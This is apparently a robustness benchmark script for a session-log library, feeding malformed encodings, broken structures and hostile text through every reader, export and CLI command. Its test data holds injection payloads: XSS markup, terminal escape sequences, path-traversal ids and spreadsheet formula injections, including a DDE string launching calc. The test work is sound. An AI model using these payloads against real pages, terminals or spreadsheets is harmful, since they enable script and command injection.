"""Every encoding, files that lie, hostile text: each through every reader and export.

The attacks no earlier round ran through the exports: a file in UTF-16 or UTF-32 with
and without a BOM, UTF-8 with a BOM, Latin-1 bytes, overlong UTF-8, NUL bytes, lone
surrogate escapes in texts, ids and keys, CRLF, lone CR, a CR only at the end of the
file, a file name that is not UTF-8; headers that lie about the version; duplicate ids;
parent cycles; compactions that keep an entry that is absent, is the compaction, or
lies on another branch; labels on no entry; usage and timestamps of every wrong type;
and session text that is markup, control characters or a spreadsheet formula. Each
runs in a child process with a timeout through: ``load`` and its problems, the context
and ``to_messages`` at every leaf, the Session's tables, the analysis functions, every
figure, the widget's columns, ``export_html``, ``to_atif`` (ATIF's models),
``to_scout``, ``to_otel`` (parsed back), ``from_sessions`` written to Parquet and JSONL,
the commands ``info``, ``validate``, ``grep``, ``redact`` and ``convert`` (no escape
sequence on the terminal), and the writers (an entry appended, then removed by an edit
in place, must stay removed after ``upgrade_file`` and another append).

A line per attack and checkout: ``held``, or each step that broke (the exception and
where it was raised, ``TIMEOUT``, ``MARKUP``, ``ESCAPE``, ``UNREPORTED`` when a file
that is wrong loads with no problem naming a line, ``VAGUE`` when a refusal does not
name what the file is, ``RESURRECTED``), then the problems (line:kind:severity). A
file that is no session may be refused in one line. ``--before CHECKOUT`` runs each
attack on that checkout's ``prime_nb`` too (its ``prime_nb/static`` built).

Usage: python benchmarks/bench_hostile_encodings.py [--only NAME,...] [--before CHECKOUT]
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import io
import json
import os
import subprocess
import sys
import tempfile
import time
import traceback
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parent))
import session_entries
from machine import describe
from session_entries import MS, SHORT_USAGE, T0, head, user

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\x1b]0;pwned\x07\x1b[2J\u202e"
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


def assistant(entry_id: Any, parent: Any, text: Any = "ok", usage: Any = None) -> dict[str, Any]:
    """An assistant message as a provider writes it: short usage, the provider's name."""
    usage = SHORT_USAGE if usage is None else usage
    return session_entries.assistant(
        entry_id, parent, text, usage=usage, provider="anthropic", ms=MS + 1000
    )


tool_pair = functools.partial(
    session_entries.tool_pair,
    ids=("c1", "t1", "r1"),
    ms=(MS + 1000, MS + 2000),
    usage=SHORT_USAGE,
    provider="anthropic",
)
compaction = functools.partial(session_entries.compaction, stamp=T0)
lines = functools.partial(session_entries.lines, ensure_ascii=False)


PLAIN = lines(head(), user("u1", None, "héllo wörld"), assistant("a1", "u1", "ünïcode ok"))


def _hostile_text() -> bytes:
    text = MARKUP + " " + FORMULA
    return lines(
        head(cwd=MARKUP),
        {"type": "session_info", "id": "n1", "parentId": None, "timestamp": T0, "name": FORMULA},
        user("u1", "n1", text),
        *tool_pair("u1", "=cmd|' /C calc'!A0", {"path": MARKUP, "+x": "@SUM(1)"}, text),
        assistant("a1", "r1", "-2+3+" + text),
        {
            "type": "label",
            "id": "l1",
            "parentId": "a1",
            "timestamp": T0,
            "targetId": "a1",
            "label": "@" + MARKUP,
        },
    )


#: each attack's bytes, and whether the file is wrong (then a problem must name a line)
ATTACKS: dict[str, tuple[Callable[[], bytes], bool]] = {
    "UTF-16 LE with BOM": (lambda: PLAIN.decode().encode("utf-16"), True),
    "UTF-16 LE without BOM": (lambda: PLAIN.decode().encode("utf-16-le"), True),
    "UTF-16 BE without BOM": (lambda: PLAIN.decode().encode("utf-16-be"), True),
    "UTF-32 with BOM": (lambda: PLAIN.decode().encode("utf-32"), True),
    "UTF-32 LE without BOM": (lambda: PLAIN.decode().encode("utf-32-le"), True),
    "a file name not UTF-8 and no session id": (
        lambda: PLAIN.replace(b'"id": "s1", ', b"", 1),
        False,
    ),
    "UTF-8 with BOM": (lambda: b"\xef\xbb\xbf" + PLAIN, False),
    "Latin-1 bytes in a line": (lambda: PLAIN.replace("héllo".encode(), b"h\xe9llo"), True),
    "overlong UTF-8": (
        lambda: PLAIN.replace(b'"hi"', b'"h\xc0\xafi"').replace("héllo".encode(), b"h\xc1\xa9llo"),
        True,
    ),
    "a NUL byte raw in a line": (lambda: PLAIN.replace("héllo".encode(), b"h\x00llo"), True),
    "NUL escaped in text": (lambda: PLAIN.replace("héllo".encode(), b"h\\u0000llo"), False),
    "lone surrogates in text / ids / keys": (
        lambda: lines(
            head(),
            b'{"type":"message","id":"u\\ud800","parentId":null,"timestamp":"'
            + T0.encode()
            + b'","message":{"role":"user","content":"x\\udfffy","timestamp":1}}',
            b'{"type":"message","id":"a1","parentId":"u\\ud800","timestamp":"'
            + T0.encode()
            + b'","message":{"role":"assistant","content":[{"type":"text","text":"\\ud83d"}],'
            b'"usage":{"input":1,"output":1,"\\udc00k":2},"model":"m\\udc80","provider":"p",'
            b'"stopReason":"stop","timestamp":2}}',
            b'{"type":"label","id":"l1","parentId":"a1","timestamp":"'
            + T0.encode()
            + b'","targetId":"a1","label":"\\ud800"}',
            b'{"type":"session_info","id":"n1","parentId":"l1","timestamp":"'
            + T0.encode()
            + b'","name":"n\\udfff"}',
        ),
        False,
    ),
    "surrogates in a tool call": (
        lambda: (
            lines(
                head(),
                user("u1", None),
                *(json.loads(json.dumps(e)) for e in tool_pair("u1", "bash", {"cmd": "x"}, "y")),
            )
            .replace(b'"bash"', b'"b\\ud800sh"')
            .replace(b'"cmd"', b'"c\\udfffmd"')
        ),
        False,
    ),
    "NUL and control characters in ids": (
        lambda: lines(
            head(id="s\u0000/../x"),
            user("u\u00001", None, "a\u0000b"),
            assistant("a\r\n1", "u\u00001", "c\u0000d"),
            user("../../e\u001b[2J", "a\r\n1"),
        ),
        False,
    ),
    "CRLF line ends": (lambda: PLAIN.replace(b"\n", b"\r\n"), False),
    "lone CR line ends": (lambda: PLAIN.replace(b"\n", b"\r"), True),
    "CR only at EOF": (lambda: PLAIN[:-1] + b"\r", False),
    "header v3 over v1 entries": (
        lambda: lines(
            head(),
            {"type": "message", "timestamp": T0, "message": {"role": "user", "content": "x"}},
        ),
        True,
    ),
    "header v1 over v3 entries": (
        lambda: lines(head(version=1), user("u1", None), assistant("a1", "u1")),
        True,
    ),
    "header in the middle": (lambda: lines(user("u1", None), head(), assistant("a1", "u1")), True),
    "duplicate ids": (
        lambda: lines(
            head(), user("u1", None, "first"), assistant("a1", "u1"), user("a1", "u1", "second")
        ),
        True,
    ),
    "cycle a->b->a and a self-parent": (
        lambda: lines(head(), user("u1", "a1"), assistant("a1", "u1"), user("s", "s")),
        True,
    ),
    "parent on a later line": (
        lambda: lines(head(), assistant("a1", "u1"), user("u1", None)),
        False,
    ),
    "kept entry absent / itself / on another branch": (
        lambda: lines(
            head(),
            user("u1", None),
            assistant("a1", "u1"),
            user("b1", "u1"),
            compaction("c1", "a1", "gone"),
            compaction("c2", "c1", "c2"),
            compaction("c3", "c2", "b1"),
            user("u2", "c3"),
        ),
        True,
    ),
    "compaction and branch fields of the wrong type": (
        lambda: lines(
            head(),
            user("u1", None),
            assistant("a1", "u1"),
            compaction("c1", "a1", 5) | {"summary": ["not", "text"], "tokensBefore": "many"},
            compaction("c2", "c1", ["u1"]) | {"summary": None, "tokensBefore": -1e400},
            compaction("c3", "c2", {"id": "u1"}) | {"details": "x" * 10, "tokensAfter": True},
            {
                "type": "branch_summary",
                "id": "b1",
                "parentId": "c3",
                "timestamp": T0,
                "fromId": 7,
                "summary": {"x": 1},
            },
            {
                "type": "model_change",
                "id": "m1",
                "parentId": "b1",
                "timestamp": T0,
                "provider": ["p"],
                "modelId": 3,
            },
            {
                "type": "thinking_level_change",
                "id": "t1",
                "parentId": "m1",
                "timestamp": T0,
                "thinkingLevel": {"x": 1},
            },
            {
                "type": "label",
                "id": "l1",
                "parentId": "t1",
                "timestamp": T0,
                "targetId": 5,
                "label": ["x"],
            },
            {
                "type": "session_info",
                "id": "n1",
                "parentId": "l1",
                "timestamp": T0,
                "name": {"x": 1},
            },
            user("u2", "n1", [{"type": "image", "data": 5, "mimeType": None}]),
        ),
        True,
    ),
    "label on no entry": (
        lambda: lines(
            head(),
            user("u1", None),
            {
                "type": "label",
                "id": "l1",
                "parentId": "u1",
                "timestamp": T0,
                "targetId": "gone",
                "label": "x",
            },
        ),
        True,
    ),
    "usage NaN / Infinity / 1e400 / text / below 0 / 2**70": (
        lambda: lines(
            head(),
            user("u1", None),
            b'{"type":"message","id":"a1","parentId":"u1","timestamp":"'
            + T0.encode()
            + b'","message":{"role":"assistant","content":[],"model":"m","provider":"p",'
            b'"usage":{"input":NaN,"output":Infinity,"cacheRead":1e400,"cacheWrite":"12",'
            b'"totalTokens":-5,"cost":{"total":1180591620717411303424}},"timestamp":1}}',
            assistant(
                "a2", "a1", usage={"input": 2**70, "output": -(2**70), "cost": {"total": "1"}}
            ),
            assistant("a3", "a2", usage={"input": [1], "output": {"x": 1}, "cost": None}),
            b'{"type":"message","id":"a4","parentId":"a3","timestamp":"'
            + T0.encode()
            + b'","message":{"role":"assistant","content":[],"model":"m","provider":"p",'
            b'"usage":{"input":1,"output":1,"cacheRead":1e400,"cost":{"total":1e400}}}}',
            assistant("a5", "a4", usage={"input": 1, "output": 1, "cost": {"total": -7}}),
        ),
        True,
    ),
    "timestamps not dates / far future / out of order / numbers": (
        lambda: lines(
            head(timestamp="not a date"),
            user("u1", None, timestamp="9999-12-31T23:59:59Z"),
            assistant("a1", "u1") | {"timestamp": "2020-01-01T00:00:00Z"},
            user("u2", "a1", timestamp=1767607200),
            assistant("a2", "u2") | {"timestamp": 1e300},
            user("u3", "a2", timestamp={"t": 1}),
        ),
        True,
    ),
    "markup / control characters / formulas in every text": (_hostile_text, False),
}

#: attacks whose file has a name of its own (bytes: a name need not be UTF-8)
NAMES = {"a file name not UTF-8 and no session id": b"caf\xe9 \x1b[31m.jsonl"}
#: what a refusal must name for the attacks a reader refuses
SAYS = {
    "UTF-32 with BOM": "UTF-32",
    "UTF-32 LE without BOM": "UTF-32LE",
    "UTF-16 BE without BOM": "UTF-16BE",
}

STEPS = (
    "load",
    "problems",
    "contexts",
    "tables",
    "analysis",
    "figures",
    "widget",
    "export_html",
    "to_atif",
    "to_scout",
    "to_otel",
    "datasets",
    "cli_info",
    "cli_validate",
    "cli_grep",
    "cli_redact",
    "cli_convert",
    "writers",
)


def _check_page(page: Path) -> None:
    text = page.read_text(encoding="utf-8")
    if "<script>alert(1)" in text or "<img src=x onerror" in text:
        raise AssertionError("MARKUP: session markup raw in the page")


def _cli(argv: list[str]) -> None:
    from prime_nb.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:
            code = exc.code  # type: ignore[assignment]
    said = out.getvalue() + err.getvalue()
    if "\x1b" in said or "\x07" in said or "\x9b" in said:
        raise AssertionError(f"ESCAPE: {argv[0]} printed a control character")
    if "Traceback" in said:
        raise AssertionError(f"TRACEBACK: {argv[0]}: {said.splitlines()[-1][:160]}")
    if code not in (0, 1, 2):
        raise AssertionError(f"exit {code}: {said.strip().splitlines()[-1:]}")


def _every_analysis(session: Any) -> None:
    from prime_nb import analysis

    for name in (
        "abandoned_share",
        "branch_segments",
        "branches",
        "compaction_forensics",
        "compaction_retention",
        "context_frame",
        "fork_points",
    ):
        getattr(analysis, name)(session)


def child(path: Path, wrong: bool) -> None:
    warnings.simplefilter("ignore")
    import prime_nb
    from prime_nb import plots
    from prime_nb.datasets import from_sessions, write_dataset
    from prime_nb.errors import SessionFormatError
    from prime_nb.interop import to_atif, to_otel, to_scout
    from prime_nb.widget import export_html
    from prime_nb.widget._data import SessionData

    out = path.parent / "out"
    out.mkdir(exist_ok=True)
    held: dict[str, Any] = {}

    def load() -> None:
        held["s"] = prime_nb.load(path)

    def problems() -> None:
        frame = held["s"].problems
        held["problems"] = [
            f"{r.get('line')}:{r.get('kind')}:{r.get('severity')}" for r in frame.to_dict("records")
        ]
        if wrong and not frame["line"].notna().any():
            raise AssertionError("UNREPORTED: the file is wrong and no problem names a line")

    def contexts() -> None:
        session = held["s"]
        for leaf in list(session.leaves.index)[:50]:
            session.context(leaf)
            json.dumps(session.to_messages(leaf), ensure_ascii=False).encode("utf-8")

    def tables() -> None:
        session = held["s"]
        for name in (
            "entries",
            "messages",
            "tool_calls",
            "compactions",
            "leaves",
            "label_table",
            "bash_runs",
            "custom_entries",
            "branch_summaries",
        ):
            getattr(session, name).to_csv(io.StringIO())
        json.dumps(session.summary(), default=str)

    def figures() -> None:
        for name in plots.__all__:
            if name != "escape_markup":
                getattr(plots, name)(held["s"]).to_json()

    def datasets() -> None:
        table = from_sessions(path, progress=False)
        table.validate(full=True)
        write_dataset(table, out / "d.parquet", progress=False)
        write_dataset(table, out / "d.jsonl", progress=False)

    def atif() -> None:
        import atif as atif_models

        for written in to_atif(path, out / "atif", leaf="all", family=False):
            atif_models.Trajectory.model_validate_json(written.read_bytes())

    def otel() -> None:
        from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import (
            ExportTraceServiceRequest,
        )

        to_otel(path, path=out / "t.pb", leaf="all")
        request = ExportTraceServiceRequest()
        request.ParseFromString((out / "t.pb").read_bytes())

    def writers() -> None:
        """An entry appended, removed by an edit in place, must stay removed."""
        from prime_nb.errors import EntryNotFoundError, UpgradeRequiredError
        from prime_nb.write import append_message

        copy = out / "w.jsonl"
        copy.write_bytes(path.read_bytes())
        parent = held["s"].leaf_id if "s" in held else None
        size = copy.stat().st_size
        try:
            removed = append_message(copy, parent, {"role": "user", "content": "x"}, fsync=False)
        except (UpgradeRequiredError, SessionFormatError, EntryNotFoundError):
            return  # a file no writer appends to, or a leaf named only by the loader
        with copy.open("r+b") as fh:
            fh.truncate(size)
        prime_nb.upgrade_file(copy)
        append_message(copy, parent, {"role": "user", "content": "y"}, fsync=False)
        if removed.encode() in copy.read_bytes():
            raise AssertionError("RESURRECTED: an entry removed in place was written back")

    loaded = {
        "problems": problems,
        "contexts": contexts,
        "tables": tables,
        "analysis": lambda: _every_analysis(held["s"]),
        "figures": figures,
        "widget": lambda: SessionData(held["s"]).columns(),
        "export_html": lambda: _check_page(export_html(held["s"], out / "p.html")),
    }
    steps: dict[str, Callable[[], Any]] = {
        "load": load,
        **{k: (lambda f=f: f() if "s" in held else None) for k, f in loaded.items()},
        "to_atif": atif,
        "to_scout": lambda: to_scout(path, out / "scout", leaves="all"),
        "to_otel": otel,
        "datasets": datasets,
        "cli_info": lambda: _cli(["info", str(path)]),
        "cli_validate": lambda: _cli(["validate", str(path)]),
        "cli_grep": lambda: _cli(["grep", "o", str(path)]),
        "cli_redact": lambda: _cli(["redact", str(path), "-o", str(out / "r.jsonl")]),
        "cli_convert": lambda: _cli(
            ["convert", str(path), "--to", "otel", "-o", str(out / "c.pb")]
        ),
        "writers": writers,
    }
    assert tuple(steps) == STEPS
    said = path.with_suffix(".results").open("w", encoding="utf-8")
    for name, step in steps.items():
        start = time.process_time()
        try:
            step()
            result = "ok"
        except Exception as exc:
            text = str(exc).splitlines()[0][:160] if str(exc) else ""
            if isinstance(exc, SessionFormatError) and "\n" not in str(exc):
                result = f"refused: {text}"
            elif isinstance(exc, AssertionError):
                result = text
            else:
                where = traceback.extract_tb(exc.__traceback__)[-1]
                result = (
                    f"{type(exc).__name__}: {text} [{Path(where.filename).name}:{where.lineno}]"
                )
        record = {name: result, "cpu": round(time.process_time() - start, 2)}
        if name == "problems" and "problems" in held:
            record["said"] = held["problems"]
        said.write(json.dumps(record, ensure_ascii=True) + "\n")
        said.flush()
    said.close()


def run(name: str, python_path: str, timeout: float) -> tuple[dict[str, str], list[str]]:
    """One attack in a child process whose ``prime_nb`` comes from ``python_path``."""
    make, wrong = ATTACKS[name]
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / os.fsdecode(NAMES.get(name, b"attack.jsonl"))
        path.write_bytes(make())
        ended = ""
        argv = [sys.executable, __file__, "--child", str(path)] + (["--wrong"] if wrong else [])
        env = {**os.environ, "PYTHONPATH": python_path}
        try:
            done = subprocess.run(
                argv, capture_output=True, text=True, timeout=timeout, check=False, env=env
            )
            if done.returncode:
                ended = f"exit {done.returncode}: {done.stderr.strip()[-200:]}"
        except subprocess.TimeoutExpired:
            ended = f"TIMEOUT after {timeout} s"
        said = path.with_suffix(".results")
        results: dict[str, str] = {}
        problems: list[str] = []
        for line in said.read_text().splitlines() if said.exists() else []:
            record = json.loads(line)
            problems = record.pop("said", problems)
            record.pop("cpu")
            results.update(record)
        if ended:
            running = next((n for n in STEPS if n not in results), "(after the steps)")
            results[running] = ended
    expected = SAYS.get(name)
    for step, result in results.items():
        if result.startswith("refused: ") and expected and expected not in result:
            results[step] = "VAGUE: " + result
    return {k: v for k, v in results.items() if v != "ok" and not _fine(v)}, problems


def _fine(result: str) -> bool:
    """A refusal in one line is what a file that is no session should get."""
    return result.startswith("refused: ")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", help="attacks to run, comma separated")
    parser.add_argument("--timeout", type=float, default=120.0)
    parser.add_argument(
        "--before", metavar="CHECKOUT", help="also run each attack on this checkout's prime_nb"
    )
    parser.add_argument("--child", help=argparse.SUPPRESS)
    parser.add_argument("--wrong", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.child:
        child(Path(args.child), args.wrong)
        return
    print(describe())
    here = str(Path(__file__).resolve().parent.parent)
    names = args.only.split(",") if args.only else list(ATTACKS)
    broke = {"before": 0, "now": 0}
    for name in names:
        rows = [("before", args.before)] if args.before else []
        for label, checkout in [*rows, ("now", here)]:
            bad, problems = run(name, checkout, args.timeout)
            broke[label] += bool(bad)
            shown = "held" if not bad else "; ".join(f"{k}: {v}" for k, v in bad.items())
            told = ", ".join(problems[:6]) or "none"
            print(f"{name} | {label}: {shown} [problems: {told}]", flush=True)
    counts = ", ".join(
        f"{label} {n}" for label, n in broke.items() if args.before or label == "now"
    )
    print(f"attacks that broke, of {len(names)}: {counts}")


if __name__ == "__main__":
    main()
